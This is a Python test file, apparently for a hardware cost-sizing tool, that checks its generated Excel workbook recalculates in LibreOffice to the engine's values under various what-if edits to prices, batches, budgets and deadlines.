"""The workbook: live formulas that LibreOffice recalculates to the engine's values, what-ifs, safety."""

from __future__ import annotations

import io
import math
import re
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import IO, Any

import openpyxl
import pytest

from helpers import ROOT, SCENARIOS, results_of, shown
from test_alternatives import FIT_FP8
from test_money import BOUGHT_RUN
from sizing import alternatives, formulas as F
from sizing.errors import OutputError
from sizing.evaluate import Results, evaluate
from sizing.render import workbook
from sizing.render.workbook.results import FAILURES, WHERE, failure_name
from sizing.narrative.memo import table_names
from sizing.render.workbook.summary import SERVING_CHECK
from sizing.render.workbook import (INPUTS_IN_RANGE, MASTER, RECOMMENDATION, REQUIREMENTS_MET, names_of,
                                    recommendation_name, valid_name, workbook_bytes, write_workbook)
from sizing.scenario import load_scenario, load_scenario_bytes

ERRORS = ("#NAME?", "#DIV/0!", "#REF!", "#VALUE!", "#N/A", "#NUM!", "#NULL!", "Err:")
QUANTITY_KEY = re.compile(r"[a-z0-9._-]+/[^/]+/[a-z0-9_]+")


@dataclass(frozen=True)
class WhatIf:
    """An input changed in the workbook, and the same change made to the scenario file."""

    id: str
    scenario: str
    key: str                    # the input whose value cell is edited
    new_value: Any              # in the unit the Inputs sheet shows
    old_text: str               # the scenario text replaced ...
    new_text: str               # ... by this


# Scenarios beside the shipped ones whose workbooks are recalculated too: an alternative sharded to fit
# A new user's full fine-tune of a 70B model without recompute: one 4,096-token sequence's activations outgrow an
# H100, so no device count holds it (the workbook showed #VALUE! in a dozen cells and failed its master check).
OUTGROWN = """\
sizing: 1
name: outgrown
devices:
  h100: {from: nvidia-h100-sxm5-80gb, price: 2.50 USD/hour}
workloads:
  tune: {kind: train, model: llama-3.1-70b, precision: bf16, tokens: 1e9, sequence: 4096, deadline: 5 day}
decision: {objective: cost, require: [fits_memory, meets_targets]}
"""
EXTRA = {"alternative-fit": FIT_FP8, "sequence-outgrows": OUTGROWN, "bought-run": BOUGHT_RUN}
BOOKS = [p.stem for p in SCENARIOS] + list(EXTRA)

WHAT_IFS = (
    WhatIf("price-x2", "chat-70b-fp8", "device.mi300x.price", 3.70, "price: 1.85 USD/hour", "price: 3.70 USD/hour"),
    WhatIf("utilisation", "chat-70b-fp8", "workload.chat.traffic.utilisation", 0.25, "utilisation: 50 %",
           "utilisation: 25 %"),
    WhatIf("batch-64", "chat-70b-fp8", "workload.chat.batch", 64, "batch: 16", "batch: 64"),
    WhatIf("purchase-added", "chat-70b-fp8", "device.h200.costs.purchase", 15000,      # into a blank cell
           "  h200:\n    from: nvidia-h200-sxm-141gb\n    price: 2.25 USD/hour\n",
           "  h200:\n    from: nvidia-h200-sxm-141gb\n    price: 2.25 USD/hour\n    costs: {purchase: 15000 USD}\n"),
    WhatIf("price-cleared", "chat-70b-fp8", "device.mi300x.price", None,              # a filled cost cell cleared
           '    price: 1.85 USD/hour\n    field_sources: {price: "public on-demand list price, 2025-01"}\n', ""),
    WhatIf("purchase-cleared", "chat-70b-fp8", "device.h100.costs.purchase", None,
           "costs: {purchase: 35000 USD, electricity", "costs: {electricity"),
    WhatIf("onprem-rent-cheaper", "platform-two-services", "device.h100.price", 2.00, "price: 2.50 USD/hour",
           "price: 2.00 USD/hour"),
    WhatIf("purchase-cleared-on-prem", "platform-two-services", "device.h100.costs.purchase", None,
           "reserved_discount: 30 %, purchase: 30000 USD, ", "reserved_discount: 30 %, "),
    WhatIf("budget-cut", "eu-assistant-eur", "decision.decision.budget.monthly", 1500, "budget: {monthly: 4000 EUR}",
           "budget: {monthly: 1500 EUR}"),
    WhatIf("training-bought", "pretrain-deadline", "device.h100.costs.purchase", 30000,   # a run's capital
           "  h100: {from: nvidia-h100-sxm5-80gb, price: 2.50 USD/hour}",
           "  h100: {from: nvidia-h100-sxm5-80gb, price: 2.50 USD/hour, costs: {purchase: 30000 USD}}"),
    WhatIf("lora-share", "finetune-approach", "workload.tune-lora.trainable", 0.10,   # a share its name states
           "trainable: 1 %", "trainable: 10 %"),
    WhatIf("batch-32", "ref-7b-decode", "workload.decode-batch-64.batch", 32, "    batch: 64\n",
           "    batch: 32\n"),
    WhatIf("deadline-45", "pretrain-deadline", "workload.pretrain.deadline", 45,     # whole servers follow it
           "deadline: 30 day", "deadline: 45 day"),
)


# Edits the scenario language refuses (an average above the peak), made in the workbook only: the engine's results
# stay those of the scenario as written.
EDITS = {"average-above-peak": ("chat-70b-fp8", "workload.chat.traffic.utilisation", 1.5),
         "price-as-text": ("pretrain-deadline", "device.b200.price", "3.75 USD"),
         "purchase-as-text": ("chat-70b-fp8", "device.h200.costs.purchase", "15000 USD"),
         "tpu-bought": ("pretrain-deadline", "device.tpu-v5p.costs.purchase", 10000),
         "discount-30": ("pretrain-deadline", "device.h100.costs.reserved_discount", 30),
         "devices-31": ("pretrain-deadline", "workload.pretrain-servers.devices.b200", 31),
         "average-20": ("eu-assistant-eur", "workload.assistant.traffic.average", 20),     # the peak is 12
         "training-rent-cleared": ("training-bought", "device.h100.price", None),     # bought: no price to rent at
         "b200-price-cleared": ("pretrain-deadline", "device.b200.price", None)}     # the B200 not offered


@dataclass
class Case:
    results: Results            # what the engine says
    names: dict[str, str]       # key -> defined name
    source: Path                # the workbook as written (formulas)
    values: Path                # the workbook recalculated by LibreOffice


def same(got: Any, want: Any) -> bool:
    """A recalculated cell against an engine value: 1e-9 relative; LibreOffice may store TRUE as 1."""
    if isinstance(want, bool):
        return got is want or (type(got) in (int, float) and got in (0, 1) and bool(got) is want)
    if isinstance(want, str):
        return got == want
    if want is None or (isinstance(want, float) and math.isnan(want)):     # no value: a blank cell
        return got in (None, "")
    return (isinstance(got, (int, float)) and not isinstance(got, bool)
            and math.isclose(got, want, rel_tol=1e-9, abs_tol=1e-300))


def named_values(source: Path | IO[bytes], values: Path | IO[bytes]) -> dict[str, Any]:
    """Every defined name's value: where the name points in `source`, read from `values` (its stored values)."""
    wb, got = openpyxl.load_workbook(source), openpyxl.load_workbook(values, data_only=True)
    out = {}
    for name, dn in wb.defined_names.items():
        (sheet, coord), = dn.destinations
        if ":" in coord:            # a list (the fleet search's candidates), not one value
            continue
        out[name] = got[sheet][coord.replace("$", "")].value
    return out


def edit_input(source: Path, name: str, value: Any, target: Path) -> None:
    """Type a new value into the Inputs cell whose base value carries `name` (column B of its row)."""
    wb = openpyxl.load_workbook(source)
    (sheet, coord), = wb.defined_names[name].destinations
    row = openpyxl.utils.cell.coordinate_from_string(coord.replace("$", ""))[1]
    wb[sheet][f"B{row}"].value = value
    wb.save(target)


def changed(w: WhatIf, tmp: Path) -> Results:
    """The engine's results for the scenario with the same change."""
    text = (ROOT / "scenarios" / f"{w.scenario}.yaml").read_text()
    assert text.count(w.old_text) == 1, w.old_text
    path = tmp / f"{w.id}.yaml"
    path.write_text(text.replace(w.old_text, w.new_text))
    scn, problems = load_scenario(path)
    assert scn is not None, problems
    return evaluate(scn)


@pytest.fixture(scope="module")
def cases(recalc, tmp_path_factory) -> dict[str, Case]:
    """Every shipped scenario and every what-if, recalculated by LibreOffice in one call."""
    tmp = tmp_path_factory.mktemp("workbooks")
    pending: dict[str, tuple[Results, Path]] = {}
    for path in SCENARIOS:
        r = results_of(path.stem)
        out = tmp / f"{path.stem}.xlsx"
        out.write_bytes(workbook_bytes(r))
        pending[path.stem] = (r, out)
    for name, text in EXTRA.items():
        r = evaluate(load_scenario_bytes(text.encode(), f"{name}.yaml")[0])
        out = tmp / f"{name}.xlsx"
        out.write_bytes(workbook_bytes(r))
        pending[name] = (r, out)
    for w in WHAT_IFS:
        r0, source = pending[w.scenario]
        out = tmp / f"what-if-{w.id}.xlsx"
        edit_input(source, names_of(r0)[w.key], w.new_value, out)
        pending[w.id] = (changed(w, tmp), out)
    for eid, (scenario, key, value) in EDITS.items():
        r0, source = pending[scenario]
        out = tmp / f"edit-{eid}.xlsx"
        edit_input(source, names_of(r0)[key], value, out)
        pending[eid] = (r0, out)
    done = recalc([out for _, out in pending.values()])
    return {k: Case(r, names_of(r), out, got) for (k, (r, out)), got in zip(pending.items(), done)}


def engine_values(r: Results, names: dict[str, str], skip: frozenset[str] = frozenset()) -> dict[str, Any]:
    """name -> engine value, for every input and every quantity of every pair (but the workloads in `skip`)."""
    out = {names[k]: i.value.value for k, i in r.inputs.items() if getattr(i.entity, "id", None) not in skip}
    out |= {names[x.key]: p.values.get(x.d.id) for p in r.pairs if p.workload not in skip
            for x in p.cells()}                                                     # not offered: blank
    return out


def added(before: Case, after: Case) -> frozenset[str]:
    """The automatic alternatives the engine adds for an edited scenario that its workbook, written before the edit,
    cannot have: an edit in the workbook shows such an option failing `fits_memory`; `sizing` run on the edited
    scenario prices it on the devices that hold it. And the whole-servers alternatives whose devices the edit moved:
    the engine adds one only on the devices where whole servers cost less, the workbook keeps it on every device it
    was added for, at the whole servers of the edited run (test_whole_servers_follow_the_deadline checks them)."""
    was = before.results.scenario.workloads
    pins = lambda w: {k: v.value for k, v in w.values.items() if k.startswith("devices")}
    return frozenset(w.id for w in after.results.scenario.workloads.values() if w.automatic and (
        w.id not in was or (alternatives.whole_servers(w) and pins(w) != pins(was[w.id]))))


def assert_matches_engine(case: Case, skip: frozenset[str] = frozenset()) -> None:
    got = named_values(case.source, case.values)
    want = engine_values(case.results, case.names, skip)
    assert set(want) <= set(got)
    wrong = {n: (got[n], v) for n, v in want.items() if not same(got[n], v)}
    assert wrong == {}


def assert_sweeps_match(case: Case) -> int:
    """The live sweep grid against the engine's series: each column is headed by its quantity key,
    each row starts with its swept value."""
    ws = openpyxl.load_workbook(case.values, data_only=True)["Sweep"]
    heads = {c.value: c for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and QUANTITY_KEY.fullmatch(c.value)}
    checked = 0
    for s in case.results.sweeps:
        index = {x: i for i, x in enumerate(s.values)}
        for device, series in s.series.items():
            for qid, values in series.items():
                head = heads.get(f"{s.workload}/{device}/{qid}")
                if head is None:
                    continue
                got = [(ws.cell(r, 1).value, ws.cell(r, head.column).value)
                       for r in range(head.row + 1, head.row + 1 + len(values))]
                got = [(x, g) for x, g in got if isinstance(x, (int, float))]
                wrong = [(x, g) for x, g in got if not same(g, values[index[x]].item())]
                assert wrong == [], (qid, device)
                checked += len(got)
    return checked


# -- LibreOffice recalculates every shipped scenario to the engine's values ---------------------
@pytest.mark.parametrize("name", BOOKS)
def test_every_named_cell_recalculates_to_the_engine(cases, name):
    assert_matches_engine(cases[name])


@pytest.mark.parametrize("name", BOOKS)
def test_no_cell_holds_an_error(cases, name):
    wb = openpyxl.load_workbook(cases[name].values, data_only=True)
    errors = [(ws.title, c.coordinate, c.value) for ws in wb for row in ws.iter_rows() for c in row
              if c.data_type == "e" or (isinstance(c.value, str) and c.value.startswith(ERRORS))]
    assert errors == []


@pytest.mark.parametrize("name", BOOKS)
def test_checks_and_decision_are_live(cases, name):
    case = cases[name]
    got = named_values(case.source, case.values)
    assert got[MASTER] is True                     # the shipped scenarios are sane
    fails = any(p.values.get(q) is False for p in case.results.pairs for q in ("fits", "meets_targets")) or \
        not all(o.passes for d in case.results.decisions for o in d.options)      # budgets, an API's service level
    assert same(got[REQUIREMENTS_MET], not fails)
    for i, decision in enumerate(case.results.decisions):       # each decision's live recommendation
        want = shown(case.results, decision, decision.best) if decision.best else \
            "none: no option meets every requirement"
        assert got[recommendation_name(i)] == want


@pytest.mark.parametrize("name", BOOKS)
def test_every_cached_value_is_what_libreoffice_computes(cases, name):
    """The value stored beside each formula (what pandas, previews and data_only readers see) equals the
    recalculated one, on every sheet: the ranks, the lists of failures, the roofline and the sweep too."""
    case = cases[name]
    source, stored = openpyxl.load_workbook(case.source), openpyxl.load_workbook(case.source, data_only=True)
    got = openpyxl.load_workbook(case.values, data_only=True)
    formulas, wrong = 0, []
    for ws in source:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type != "f":
                    continue
                formulas += 1
                cached, recalculated = stored[ws.title][c.coordinate].value, got[ws.title][c.coordinate].value
                if not same(recalculated, cached if cached != "" else None):
                    wrong.append((ws.title, c.coordinate, cached, recalculated))
    assert formulas > 100 and wrong == []


def test_a_failed_requirement_is_a_finding_not_a_failed_model(cases):
    got = named_values(cases["ref-finetune-7b"].source, cases["ref-finetune-7b"].values)
    assert got[MASTER] is True
    assert got[REQUIREMENTS_MET] is False
    assert same(got["full.accelerator.fits"], False)
    # an option's `fails` cell says what it fails in words, recalculated (a finance reviewer read
    # 'meets_targets (tune)' as jargon): the L40S misses the code assistant's targets
    wb = openpyxl.load_workbook(cases["platform-two-services"].values, data_only=True)
    assert "misses a target" in [c.value for row in wb["Results"].iter_rows() for c in row]


def test_a_cost_typed_as_text_fails_the_master_check(cases):
    """A finance reviewer typed '3.75 USD' over the B200's price: the option went unpriced, the recommendation
    moved to the H100, and the master check still read OK (text passes 'price > 0' in a spreadsheet). Text typed
    into a blank cost cell fails it too; the blank cell itself passes."""
    for name in ("price-as-text", "purchase-as-text", "tpu-bought"):   # a cloud TPU's purchase: not to be typed
        got = named_values(cases[name].source, cases[name].values)
        assert got[MASTER] is False, name
    assert named_values(cases["chat-70b-fp8"].source, cases["chat-70b-fp8"].values)[MASTER] is True


def test_an_input_out_of_its_range_leaves_no_recommendation(cases):
    """A finance reviewer typed a discount of 30 for 30 %: the master check failed, and the recommendation read the
    H100 at -$3.5 million. Out of its range, an input leaves no recommendation, said so; in range, it is as built."""
    for edit in ("discount-30", "devices-31", "average-20"):   # 31 B200s do not split into replicas of 2 (tensor
        # 2); an average traffic above the peak
        got = named_values(cases[edit].source, cases[edit].values)
        assert got[MASTER] is False and got[INPUTS_IN_RANGE] is False, edit
        assert got[RECOMMENDATION] == "none: an input is out of its range (see Checks)"
    summary = openpyxl.load_workbook(cases["discount-30"].values, data_only=True)["Summary"]
    assert summary["B6"].value == "none: an input is out of its range (see Checks)"
    rank = next(c.column for c in summary[8] if c.value == "rank")       # nothing ranks, the -$3.5 million included
    assert {summary.cell(r, rank).value for r in range(9, 14)} == {"none: an input is out of range"}
    built = named_values(cases["pretrain-deadline"].source, cases["pretrain-deadline"].values)
    assert built[INPUTS_IN_RANGE] is True and built[RECOMMENDATION] == "B200 SXM 180GB (32 devices, whole servers)"


def test_live_sweep_grids_follow_the_engine(cases):
    checked = {name: assert_sweeps_match(cases[name]) for name in ("capacity-chat-8b", "moe-mixtral-serving",
                                                                     "ref-7b-decode", "ref-link-matmul")}
    assert all(n > 0 for n in checked.values()), checked


# -- what-if: an edited input cell recalculates like the engine on the edited scenario ---------
@pytest.mark.parametrize("w", WHAT_IFS, ids=lambda w: w.id)
def test_what_if_matches_the_engine_on_the_changed_scenario(cases, w):
    before, after = cases[w.scenario], cases[w.id]
    assert engine_values(after.results, after.names) != engine_values(before.results, before.names)
    assert_matches_engine(after, added(before, after))
    assert_sweeps_match(after)


def test_a_cleared_price_leaves_no_error_and_the_option_unpriced(cases):
    """A finance reviewer cleared the B200's price: its capital cells read #VALUE! (IF over a blank) and the master
    check failed. A device with no rate at all is not offered: no error, its options not priced, the H100 on whole
    servers recommended."""
    case = cases["b200-price-cleared"]
    got = named_values(case.source, case.values)
    assert got[MASTER] is True and got[RECOMMENDATION] == "H100 SXM5 80GB (72 devices, whole servers)"
    wb = openpyxl.load_workbook(case.values, data_only=True)
    assert not [(ws.title, c.coordinate) for ws in wb for row in ws.iter_rows() for c in row
                if isinstance(c.value, str) and c.value.startswith("#")]
    ranks = [r for r in wb["Summary"].iter_rows(values_only=True) if r[0] and str(r[0]).startswith("B200")]
    assert len(ranks) == 2 and all(r[7] == "not priced" and r[4] in (None, "") for r in ranks)


def test_whole_servers_follow_the_deadline(cases):
    """A finance reviewer set the deadline to 45 days and read '32 devices, whole servers' where the run needed 20
    B200s, on 3 servers: the count was typed in. It follows the run's whole servers: 24 B200s, at the cost the engine
    gives the run on whole servers; they cost more than the 20 there, so the 20 are recommended, as the engine
    recommends on the edited scenario."""
    before, after = cases["pretrain-deadline"], cases["deadline-45"]
    got = named_values(after.source, after.values)
    run = {d: after.results.pair("pretrain", d).values for d in ("b200", "h100")}
    for d in ("b200", "h100"):
        assert got[before.names[f"pretrain-servers/{d}/devices"]] == run[d]["whole_domain_devices"]
        assert same(got[before.names[f"pretrain-servers/{d}/cost"]], run[d]["cost_whole_domains"])
    assert (run["b200"]["devices"], run["b200"]["whole_domain_devices"]) == (20, 24)
    assert got[RECOMMENDATION] == shown(after.results, after.results.decision, after.results.decision.best) == \
        "B200 SXM 180GB"
    names = [c.value for c in openpyxl.load_workbook(after.values, data_only=True)["Summary"]["A"]]
    assert "B200 SXM 180GB (24 devices, whole servers)" in names and "H100 SXM5 80GB (48 devices, whole servers)" \
        in names


def test_doubling_a_price_changes_the_recommendation(cases):
    before, after = cases["chat-70b-fp8"], cases["price-x2"]
    assert before.results.decision.recommendation == "mi300x b21 busy hours"      # at the batch sizing found
    assert after.results.decision.recommendation == "b200 b46 busy hours"
    assert named_values(after.source, after.values)[RECOMMENDATION] == "B200 SXM 180GB (batch 46), on demand"


def test_an_options_name_follows_the_inputs_it_states(cases):
    """A finance reviewer set the LoRA share to 10 %: the costs moved, the recommendation still read 'trainable 1
    %'. The name is a formula over the alternative's input: it reads as the engine names the changed scenario."""
    before, after = cases["finetune-approach"], cases["lora-share"]
    assert named_values(before.source, before.values)[RECOMMENDATION] == "Instinct MI300X (method lora, trainable 1 %)"
    assert named_values(after.source, after.values)[RECOMMENDATION] == \
        shown(after.results, after.results.decision, after.results.decision.best) == \
        "Instinct MI300X (method lora, trainable 10 %)"
    names = [c.value for c in openpyxl.load_workbook(after.values, data_only=True)["Summary"]["A"]]
    assert names.count("H100 SXM5 80GB (method lora, trainable 10 %)") == 1


def test_a_budget_no_option_meets_is_a_failed_requirement_on_the_readme(cases):
    """Every option of eu-assistant-eur meets its 4,000 EUR monthly budget; cut to 1,500, none does: the README's
    requirements line says so (a finance reviewer found it still reading 'every option meets every requirement'
    beside 'over budget' on every row), as does the recommendation."""
    line = lambda path: next(ws.cell(c.row, 2).value for ws in [openpyxl.load_workbook(path, data_only=True)["README"]]
                             for c in ws["A"] if c.value == "requirements")                         # noqa: E731
    before, after = cases["eu-assistant-eur"], cases["budget-cut"]
    assert named_values(before.source, before.values)[REQUIREMENTS_MET] is True
    assert line(before.values) == "every option meets every requirement checked"
    got = named_values(after.source, after.values)
    assert same(got[REQUIREMENTS_MET], False)
    assert got[RECOMMENDATION] == "none: no option meets every requirement"
    assert after.results.decision.best is None
    assert line(after.values) == "some options fail a requirement (a finding): see Checks"


def test_a_purchase_price_typed_for_a_device_that_had_none_buys_it(cases):
    """The H200 had no purchase price (a blank cost cell); typed in, owning it becomes the recommendation, in the
    workbook as in the engine on the scenario with the price added."""
    after = cases["purchase-added"]
    assert after.results.decision.recommendation == "h200"
    got = named_values(after.source, after.values)
    assert got[RECOMMENDATION].startswith("H200") and "on demand" not in got[RECOMMENDATION]
    assert got[after.names["chat/h200/cost_basis"]] == "own"
    assert got[after.names["chat/h200/capex"]] == pytest.approx(after.results.pair("chat", "h200").values["capex"])


def test_a_cost_cell_finance_clears_is_not_offered_that_way_not_free(cases):
    """A price or purchase cleared in the workbook reads as the engine reads the field left out (not offered that
    way), not as a price of 0 that would win the ranking."""
    rented = cases["price-cleared"]
    assert not rented.results.decision.recommendation.startswith("mi300x")
    got = named_values(rented.source, rented.values)
    assert not got[RECOMMENDATION].startswith("Instinct MI300X")
    assert got[rented.names["chat/mi300x/monthly_cost"]] in (None, "")             # not priced, not $0
    bought = cases["purchase-cleared"]
    got = named_values(bought.source, bought.values)
    assert got[bought.names["chat/h100/cost_basis"]] == "rent"                    # no purchase: rented, as the engine
    assert bought.results.pair("chat", "h100").values["cost_basis"] == "rent"
    assert got[bought.names["chat/h100/capex"]] in (None, "", 0)


def test_an_option_left_without_a_price_says_so_where_it_is_ranked(cases):
    """A finance reviewer blanked the MI300X's price: its options dropped out of the ranking with no reason given.
    Their rank now reads 'not priced', live (Results, and Summary's rank column), where they meet every
    requirement."""
    case = cases["price-cleared"]
    wb = openpyxl.load_workbook(case.values, data_only=True)
    ws = wb["Results"]
    head = next(r for r in ws.iter_rows() if r[1].value == "unit")
    meets = next(r for r in ws.iter_rows() if r[0].value == "meets requirements")
    rank = next(r for r in ws.iter_rows() if r[0].value == "rank")
    by_label = {h.value: (m.value, k.value) for h, m, k in zip(head[2:], meets[2:], rank[2:]) if h.value}
    unpriced = {k for k, (_, place) in by_label.items() if place == "not priced"}
    assert unpriced and all(k.startswith("Instinct MI300X") and by_label[k][0] is True for k in unpriced)
    assert all(isinstance(place, int) or (place in ("", None) and met is False)
               for k, (met, place) in by_label.items() if k not in unpriced)
    rows = list(wb["Summary"].iter_rows(values_only=True))
    options = rows[:next(k for k, r in enumerate(rows) if r[0] == "recommendation: monthly cost")]  # not the found
    summary = [r for r in options if r[0] in unpriced]                                               # batches' rows
    assert summary and all("not priced" in r for r in summary)
    as_written = openpyxl.load_workbook(cases["chat-70b-fp8"].values, data_only=True)
    assert not any("not priced" in str(c.value) for ws in as_written for r in ws.iter_rows() for c in r)


def test_an_average_above_the_peak_is_a_failed_requirement_in_the_workbook(cases):
    """A reviewer typed an average utilisation of 150 %: the README sheet still said every option meets every
    requirement. The demand's consistency is now among the requirement rows of Checks."""
    case = cases["average-above-peak"]
    wb = openpyxl.load_workbook(case.values, data_only=True)
    rows = [r for r in wb["Checks"].iter_rows(values_only=True) if str(r[0]).startswith("demand_consistent:")]
    assert rows and any(r[1].startswith("chat on ") and r[2] is False for r in rows)
    said = [r[1] for r in wb["README"].iter_rows(values_only=True) if r[0] == "requirements"]
    assert said == ["some options fail a requirement (a finding): see Checks"]
    # 150 % is out of the utilisation's range: nothing is ranked, and the rank says why (not a missing price)
    ranks = [c for r in wb["Results"].iter_rows(values_only=True) if r[0] == "rank" for c in r[2:] if c]
    assert ranks and set(ranks) == {"none: an input is out of range"}
    first = openpyxl.load_workbook(cases["chat-70b-fp8"].values, data_only=True)
    assert all(r[2] is True for r in first["Checks"].iter_rows(values_only=True)
               if str(r[0]).startswith("demand_consistent:"))


def test_a_training_run_reconciles_devices_rate_and_duration_to_its_cost(cases):
    """A finance reviewer could not check a run's cost from Summary (no hourly rate, no reconciliation): each run
    now shows its hourly rate per device and a live check that devices × rate × duration = the cost of the run,
    which the master check requires."""
    case = cases["finetune-approach"]
    ws = openpyxl.load_workbook(case.values, data_only=True)["Summary"]
    rows = list(ws.iter_rows(values_only=True))
    head = next(i for i, r in enumerate(rows) if r[0] == "option")
    labels = list(rows[head])
    at = {k: labels.index(k) for k in ("devices", "cost of the run", "duration (days)",
                                        "hourly rate per device", "devices × hourly rate × duration = cost")}
    runs = [r for r in rows[head + 1:] if r[0]][:len(case.results.decision.options)]
    assert len(runs) == 4
    # the decision ranks LoRA too: a finance reviewer read its rows under 'Decision: Full fine-tuning'
    assert rows[head - 3][0] == "Decision: Full fine-tuning, or its alternative LoRA adapters (1 % of the parameters " \
        "trained)"
    prices = {"H100 SXM5 80GB": 2.50, "Instinct MI300X": 1.85}
    for r in runs:
        assert r[at["hourly rate per device"]] == pytest.approx(next(v for k, v in prices.items() if r[0].startswith(k)))
        assert r[at["devices"]] * r[at["hourly rate per device"]] * r[at["duration (days)"]] * 24 == \
            pytest.approx(r[at["cost of the run"]], rel=1e-9)
        assert r[at["devices × hourly rate × duration = cost"]] == 1      # TRUE, in the format that shows it
    checks = [r for r in openpyxl.load_workbook(case.values, data_only=True)["Checks"].iter_rows(values_only=True)
              if str(r[0]).startswith("the money reconciles on Summary: devices × hourly rate × duration")]
    assert checks and all(r[2] is True for r in checks)


def test_a_bought_run_shows_its_capital_beside_its_share_of_the_write_off(cases):
    """A finance reviewer typed a purchase price for the H100 of the pre-training run: it was costed 'own (bought)'
    at its hours' share of the write-off, and the capital (68 × $30,000) appeared nowhere. A training run now rents
    where a price is given (its basis left to sizing); bought (`costs.basis: own`, or its price cleared), Summary
    shows the capital, live: devices × purchase price, and says the run's cost is its hours of the write-off."""
    typed = openpyxl.load_workbook(cases["training-bought"].values, data_only=True)["Summary"]
    bases = {r[1] for r in typed.iter_rows(values_only=True) if r[1] and str(r[1]).startswith(("own", "rent"))}
    assert bases == {"rent (for the run)"}           # the purchase typed in: still rented, nothing paid up front
    for name in ("bought-run", "training-rent-cleared"):
        case = cases[name]
        ws = openpyxl.load_workbook(case.values, data_only=True)["Summary"]
        rows = list(ws.iter_rows(values_only=True))
        head = next(i for i, r in enumerate(rows) if r[0] == "option")
        at = {k: list(rows[head]).index(k) for k in ("cost basis", "devices", "capital (bought up front)")}
        runs = {r[0]: r for r in rows[head + 1:] if r[0]}
        bought = next(r for k, r in runs.items() if r[at["cost basis"]].startswith("own"))
        assert bought[at["cost basis"]] == "own (bought: run's write-off share)"
        price = 20000 if name == "bought-run" else 30000
        assert bought[at["capital (bought up front)"]] == pytest.approx(bought[at["devices"]] * price)
        rented = [r for r in runs.values() if not str(r[at["cost basis"]]).startswith("own")
                  and isinstance(r[at["devices"]], (int, float))]
        assert rented and all(r[at["capital (bought up front)"]] == 0 for r in rented)
    reserved = [r for r in openpyxl.load_workbook(cases["bought-run"].values, data_only=True)["Summary"]
                .iter_rows(values_only=True) if r[1] == "reserved (the run's hours only)"]
    assert len(reserved) == 2           # 14 H100s and the 16 of their whole servers, both committed


def test_a_cheaper_rental_does_not_unbuy_a_fleet_that_must_run_on_premises(cases):
    """The code assistant must run on premises: its H100s are costed as bought whatever renting costs, so a rental
    price cut leaves the purchase recommended (it used to turn the fleet into a rented one that failed on-prem,
    leaving no option at all), in the workbook as in the engine."""
    after = cases["onprem-rent-cheaper"]
    code = next(d for d in after.results.decisions if d.workload == "code")
    assert code.recommendation == "h100 b32"                      # at the batch sizing found: 8 H100s
    p = after.results.pair("code-b32", "h100").values
    assert (p["cost_basis"], p["capex"]) == ("own", 240000.0)
    assert p["monthly_cost"] == pytest.approx(8 * (30000 / 36 + 150 + 0.7 * 1.3 * 0.12 * 730.5), rel=1e-3)
    got = named_values(after.source, after.values)
    assert got[after.names["code/h100/cost_basis"]] == "own"
    assert after.results.pair("support", "h100").values["cost_basis"] == "reserved"   # no on-prem there: cheapest


def test_a_long_sweep_is_shown_as_evenly_spaced_live_rows(monkeypatch):
    monkeypatch.setattr(workbook.sweep, "MAX_LIVE_ROWS", 5)
    text = (ROOT / "scenarios" / "chat-70b-fp8.yaml").read_text()
    text = re.sub(r"^sweep:.*$", "sweep: {batch: {from: 1, to: 12, points: 12}}", text, flags=re.M)
    wb = openpyxl.load_workbook(io.BytesIO(workbook_bytes(scenario_results(text))))
    swept = [c.value for c in wb["Sweep"]["A"] if isinstance(c.value, (int, float))]
    assert swept == [1, 4, 7, 9, 12]            # the first, the last, evenly spaced between
    notes = [c.value for c in wb["README"]["B"] if isinstance(c.value, str)]
    assert "The batch sweep of chat has 12 points; Sweep shows 5 of them, evenly spaced, as live rows." in notes


def test_failed_requirements_are_listed_live(cases):
    """The edited batch in the workbook lists each option's failures and ranks the others as the engine does on the
    edited scenario; the engine adds the BF16 alternative sharded to fit (the workbook cannot add options), which
    the workbook shows failing `fits_memory` instead."""
    case = cases["batch-64"]                    # at batch 64 the KV cache outgrows some devices
    new = added(cases["chat-70b-fp8"], case)
    assert "chat-bf16-fit" in new and all(case.results.scenario.workloads[w].found for w in new - {"chat-bf16-fit"})
    ws = openpyxl.load_workbook(case.values, data_only=True)["Results"]
    rows = {r[0].value: r for r in ws.iter_rows() if r[0].value in ("fails", "rank")}
    devices = [c.value for c in next(r for r in ws.iter_rows() if r[1].value == "unit")[2:]]
    source = cases["chat-70b-fp8"].results               # the workbook names options as the source did
    name = lambda o: table_names(source, source.decision, figure=False).get(o.id, o.label)   # noqa: E731
    ranking = [o for o in case.results.decision.options if o.workload not in new
               and not (case.results.scenario.workloads[o.workload].found and name(o) not in devices)]
    #                  (a way of paying a found batch saves in only at the edited batch: not an option of the book)
    by_label = {name(o): o for o in ranking}
    live = {d: failed_in(c.value, failing_workload(by_label[d]) if d in by_label else "")
            for d, c in zip(devices, rows["fails"][2:])}
    assert any(o.failures for o in ranking)
    assert live == {name(o): {(named(case, f), f.workload) for f in o.failures} for o in ranking}
    assert {("does not fit", "chat-bf16")} <= live["B200 SXM 180GB (precision bf16)"]
    ranks = {d: c.value for d, c in zip(devices, rows["rank"][2:])}
    passing = sorted((o for o in ranking if o.passes), key=lambda o: o.rank)    # the engine's order, without
    assert {name(o): i for i, o in enumerate(passing, 1)} == {d: r for d, r in ranks.items() if r}  # the new ones


@pytest.mark.parametrize("name", [p.stem for p in SCENARIOS])
def test_every_decision_lists_what_each_option_fails_as_the_engine_does(cases, name):
    """Each decision block's live `fails` row, recalculated, names the engine's failures: an option that is not
    priced does not fail a budget it does not spend (platform-two-services: the L40S fleet misses a target, so it
    has no capex to compare with the cap)."""
    case = cases[name]
    ws = openpyxl.load_workbook(case.values, data_only=True)["Results"]
    heads = [r for r in ws.iter_rows() if r[1].value == "unit" and r[0].value in (None, "")]
    fails = [r for r in ws.iter_rows() if r[0].value == "fails"]
    decisions = case.results.decisions
    assert len(fails) == len([d for d in decisions if d.options])
    for dec, head, row in zip((d for d in decisions if d.options), heads, fails):
        labels = [c.value for c in head[2:2 + len(dec.options)]]
        by_label = {shown(case.results, dec, o): o for o in dec.options}
        live = {lab: failed_in(c.value, failing_workload(by_label[lab])) for lab, c in zip(labels, row[2:])}
        assert live == {shown(case.results, dec, o): {(named(case, f), f.workload) for f in o.failures}
                        for o in dec.options}, \
            dec.id


def named(case, f) -> str:
    """The words a `fails` cell gives an engine's failure (never an id: 'busy_hours_in_cloud' read as code)."""
    words = failure_name(f.requirement, f.quantity, any(p.workload == f.workload and p.kind == "train"
                                                        for p in case.results.pairs))
